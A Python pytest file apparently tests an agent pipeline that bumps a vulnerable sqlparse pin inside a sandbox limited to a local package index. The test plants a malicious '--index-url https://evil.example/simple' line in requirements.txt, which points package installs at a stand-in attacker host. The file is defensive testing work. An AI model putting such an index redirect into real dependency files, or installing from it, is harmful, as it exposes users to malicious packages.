"""The ladder in the real sandbox: its tools reach this machine's index, and nothing else."""

import pytest

from agents.pipelines.remediate.ladder import Fix, Level, climb, ecosystem_of
from agents.policy import Policy
from tests.agents.pipelines.remediate.ladder.conftest import TERMS, group
from tests.app.conftest import open_folder, sandbox
from tests.app.dependencies.install.conftest import ground

__all__ = ["ground", "open_folder", "sandbox"]  # fixtures


@pytest.mark.usefixtures("has_index")
async def test_a_pin_is_moved_with_tools_that_the_sandbox_was_given(held):
    evil = "--index-url https://evil.example/simple\n"
    held.commit({"requirements.txt": f"{evil}sqlparse==0.4.4\n"})
    _, tree = await held.run(policy=Policy.model_validate({"setup": {"run": []}}))
    alerts = group("sqlparse", "< 0.5.0", manifests=["requirements.txt"])

    fix = await climb(tree, ecosystem_of(frozenset({"requirements.txt"}), alerts), alerts, TERMS)

    assert isinstance(fix, Fix), fix
    assert (fix.level, fix.files) == (Level.BUMP, ("requirements.txt",))
    assert await tree.read("requirements.txt") == f"{evil}sqlparse==0.5.0\n".encode()
    assert await tree.snapshot() == fix.tree
